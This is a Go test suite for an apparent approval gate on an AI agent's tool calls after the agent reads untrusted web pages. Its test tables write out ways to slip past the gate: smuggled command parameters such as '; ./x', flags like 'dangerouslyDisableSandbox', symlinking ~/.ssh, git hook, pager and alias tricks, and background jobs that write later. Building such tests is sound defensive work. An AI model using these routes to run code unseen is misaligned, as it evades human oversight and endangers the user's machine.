package main

import (
	"fmt"
	"testing"

	"github.com/openclaw-verifier/verifier/config"
	"github.com/openclaw-verifier/verifier/policy"
	"github.com/openclaw-verifier/verifier/taint"
)

// Ways to write files that no card shows, after which builds ask.

var untrusted = taint.Untrusted

// building is a conversation in which a page was read, and builds pass: nothing was written unseen.
func (r *rig) building(name string) map[string]any {
	r.t.Helper()
	m := with(r.tainted(name), "waitMs", 9001)
	r.allow(bash(r.t, "make test", m))
	return m
}

// TestH603AToolThatIsNoEditorWrites: what it writes is on no card. dir_fetch, plugins, openclaw, skill_workshop and the browser's snapshot passed before.
func TestH603AToolThatIsNoEditorWrites(t *testing.T) {
	t.Parallel()
	for _, c := range []call{
		{tool: "dir_fetch", params: `{"node":"phone","path":"/sdcard/x"}`},
		{tool: "plugins", params: `{"action":"install","packageName":"x"}`},
		{tool: "openclaw", params: `{"message":"write a Makefile"}`},
		{tool: "skill_workshop", params: `{"action":"create","name":"x"}`},
		{tool: "nodes", params: `{"action":"camera_snap","node":"phone","outPath":"Makefile"}`},
		{tool: "mcp__playwright__browser_snapshot", params: `{"filename":"conftest.py"}`},
		{tool: "mcp__filesystem__write_file", params: `{"path":"package.json","content":"{}"}`},
		{tool: "mcp__git__git_checkout", params: `{"repo_path":".","branch_name":"evil"}`},
		{tool: "browser", params: `{"action":"download","path":"go.mod"}`},
		{tool: "image_generate", params: `{"prompt":"x","filename":"Makefile"}`},
		{tool: "file_write", params: `{"node":"phone","path":"x","contentBase64":"eA=="}`},
		{tool: "process", params: `{"action":"write","sessionId":"x","data":"cp a Makefile\n"}`},
		{tool: "terminal", params: `{"action":"write","sessionId":"x","data":"cp a Makefile\n"}`},
		{tool: "code_execution", params: `{"code":"open('conftest.py','w')"}`},
	} {
		t.Run(c.tool, func(t *testing.T) {
			t.Parallel()
			r := newRig(t, func(c *config.Config) {
				c.Policy.MCP.Servers = map[string]policy.Server{"playwright": {Trust: &untrusted}, "filesystem": {Trust: &untrusted}}
			})
			m := r.building("h603")
			c.context = m
			r.yesTo(c)
			r.stops(bash(t, "make test", m))
		})
	}
}

// yesTo sends a call and lets it pass if it is asked about.
func (r *rig) yesTo(c call) {
	r.t.Helper()
	held := r.hold(c)
	for {
		select {
		case a := <-held:
			if !a.allowed() {
				r.t.Fatalf("%s %s: %s", c.tool, c.params, a.raw)
			}
			return
		default:
			if cards := r.pending(); len(cards) > 0 {
				r.approve(cards[0].Ref, 0)
			}
		}
	}
}

// TestH604APageDictatesAFileToABrowser that is named in the config: the call counted as one that looks, so that it passed unasked, and builds after it.
func TestH604APageDictatesAFileToABrowser(t *testing.T) {
	t.Parallel()
	r := newRig(t, func(c *config.Config) {
		c.Policy.MCP.Servers = map[string]policy.Server{"playwright": {Trust: &untrusted}}
	})
	m := with(r.tainted("h604"), "waitMs", 9001)
	looks := call{tool: "mcp__playwright__browser_snapshot", params: `{}`, context: m}
	r.allow(looks)
	r.allow(bash(t, "make test", m))
	for _, tool := range []string{"browser_snapshot", "browser_take_screenshot", "browser_console_messages", "browser_network_requests"} {
		r.stops(call{tool: "mcp__playwright__" + tool, params: `{"filename":"CLAUDE.md"}`, context: m})
	}
	r.approved(call{tool: "mcp__playwright__browser_snapshot", params: `{"filename":"Makefile"}`, context: m}, 0)
	r.stops(bash(t, "make test", m))
}

// TestH605WhatRunsOnInTheBackground may write later.
func TestH605WhatRunsOnInTheBackground(t *testing.T) {
	t.Parallel()
	for _, command := range []string{"sleep 60 && cp x Makefile", "nohup ./watch.sh", "npm run dev", "python3 -m http.server", "inotifywait -m . | sh", "crontab x", "at now"} {
		t.Run(command, func(t *testing.T) {
			t.Parallel()
			r := newRig(t, nil)
			m := r.building("h605")
			r.approved(execWith(command, `"background":true`, m), 0)
			r.stops(bash(t, "make test", m))
		})
	}
}

// TestH606LinksAndSettingsThatChangeWhatIsRead or run by a build.
func TestH606LinksAndSettingsThatChangeWhatIsRead(t *testing.T) {
	t.Parallel()
	for _, command := range []string{
		"ln -s /home/me/.ssh notes", "ln -sf ../x HEAD", "git config core.pager ./x", "git config --global diff.external ./x", "git config alias.show log", "git worktree add ../x", "git update-index --chmod=+x x", "git submodule update --init",
		"git clone https://example.com/x", "git checkout evil", "git stash pop", "git apply x.patch", "git bisect run ./x", "tar xf x.tar", "unzip x.zip", "mount --bind /etc notes", "export GIT_EXTERNAL_DIFF=./x", "alias date=./x", "make install", "pip install .", "npm install",
	} {
		t.Run(command, func(t *testing.T) {
			t.Parallel()
			r := newRig(t, nil)
			m := r.building("h606")
			r.approved(bash(t, command, m), 0)
			r.stops(bash(t, "make test", m))
		})
	}
}

// turnIn is a turn of the owner's in a conversation that has read a page.
func (r *rig) turnIn(name string) map[string]any {
	r.t.Helper()
	m := with(ownerIn(name), "runId", "run-"+name, "sessionId", "s-"+name, "waitMs", 9001)
	r.allow(fetch(m))
	return m
}

// soonAsked makes a call that must ask wait only a moment.
func soonAsked(c call) call {
	c.context = with(c.context, "waitMs", 5001)
	return c
}

// tainted is a conversation of the owner's that has read a page, as OpenClaw's plugin tells of it.
func (r *rig) tainted(name string) map[string]any {
	r.t.Helper()
	m := with(ownerIn(name), "waitMs", 5001, "platform", "linux")
	r.allow(fetch(m))
	return m
}

// stops says that a call must be put to a person, who refuses it.
func (r *rig) stops(c call) {
	r.t.Helper()
	a := r.send(soonAsked(c))
	if a.allowed() || a.Ref == "" {
		r.t.Errorf("%s %s in %v: got %d %s, want it to be asked about", c.tool, c.params, c.context["sessionKey"], a.status, a.raw)
		return
	}
	r.refuse(a.Ref, "")
}

// TestH378ParamsThatMoveTheCommand: params that move the command.
func TestH378ParamsThatMoveTheCommand(t *testing.T) {
	t.Parallel()
	r := newRig(t, nil)
	m := r.tainted("h378")
	for _, more := range []string{
		`"workdir":".."`, `"workdir":"sub/../.."`, `"workdir":"~"`, `"workdir":"/"`, `"workdir":"$HOME"`, `"cwd":"/tmp/pr-42"`, `"workdir":"sub","cwd":"/tmp"`, `"workdir":["/tmp"]`, `"workdir":{"x":"/tmp"}`, `"Workdir":"/tmp"`, `"work_dir":"/tmp"`,
		`"args":["; ./x"]`, `"input":"./x"`, `"stdin":"./x"`, `"shell":"./x"`, `"environment":{"GIT_DIR":"x"}`, `"Command":"./x"`, `"cmd":"./x"`, `"script":"./x"`, `"dangerouslyDisableSandbox":true`, `"sandbox_permissions":"require_escalated"`, `"ask":"off"`,
	} {
		r.stops(execWith("git status --short", more, m))
	}
	for i, params := range []string{`{"command":["ls"," ; ./x"]}`, `{"command":["git","status",";","./x"]}`, `{"command":["bash","-lc","ls; ./x"]}`, `{"command":["./x"]}`, `{"command":{"x":"ls"}}`, `{"command":"ls","command ":"./x"}`} {
		r.stops(call{tool: "exec", params: params, context: with(m, "sessionKey", m["sessionKey"], "n", fmt.Sprint(i))})
	}
}

func TestH379WhatGitRunsCameInUnseen(t *testing.T) {
	t.Parallel()
	gits := []string{"git status --short", "git add -A", "git log -p"}
	for name, write := range map[string]func(r *rig, m map[string]any){
		"a clone in a clean conversation, with a bare repository inside": func(r *rig, _ map[string]any) {
			r.allow(bash(r.t, "git clone https://github.com/evil/x vendor/x", ownerIn("clean")))
		},
		"an archive": func(r *rig, m map[string]any) { r.approved(sh("tar xf x.tar.gz", m), 0) },
		"a package":  func(r *rig, m map[string]any) { r.approved(sh("npm install evil", m), 0) },
		"a pull":     func(r *rig, _ map[string]any) { r.allow(bash(r.t, "git pull", ownerIn("clean"))) },
		"a patch under a grant": func(r *rig, m map[string]any) {
			r.approved(call{tool: "apply_patch", params: `{"input":"*** Begin Patch\n*** Add File: a\n+x\n*** End Patch"}`, context: m}, 10)
			r.allow(call{tool: "apply_patch", params: `{"input":"*** Begin Patch\n*** Add File: .gitattributes\n+* filter=x\n*** End Patch"}`, context: m})
		},
		"git's own settings":      func(r *rig, m map[string]any) { r.approved(sh("git config core.hooksPath hooks", m), 0) },
		"a script that may write": func(r *rig, m map[string]any) { r.approved(sh("python3 gen.py", m), 0) },
		"a command of another agent": func(r *rig, _ map[string]any) {
			other := with(ownerIn("x"), "sessionKey", "agent:ops:x", "waitMs", 9001)
			r.allow(fetch(other))
			r.approved(sh("cp a .git/config", other), 0)
		},
		"a subagent": func(r *rig, m map[string]any) {
			r.approved(call{tool: "exec", params: `{"command":"sh setup.sh"}`, context: with(spawned("subagent:1", "first"), "waitMs", 9001)}, 0)
		},
		"a move": func(r *rig, m map[string]any) { r.approved(sh("mv page.html .git/hooks/pre-commit", m), 0) },
		"a link": func(r *rig, m map[string]any) { r.approved(sh("ln -s ../evil .git/hooks", m), 0) },
		"a mode": func(r *rig, m map[string]any) { r.approved(sh("chmod +x .githooks/pre-commit", m), 0) },
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := newRig(t, nil)
			m := with(r.tainted("first"), "waitMs", 9001)
			write(r, m)
			other := r.tainted("second")
			for _, command := range gits {
				r.stops(bash(t, command, other))
			}
		})
	}
}
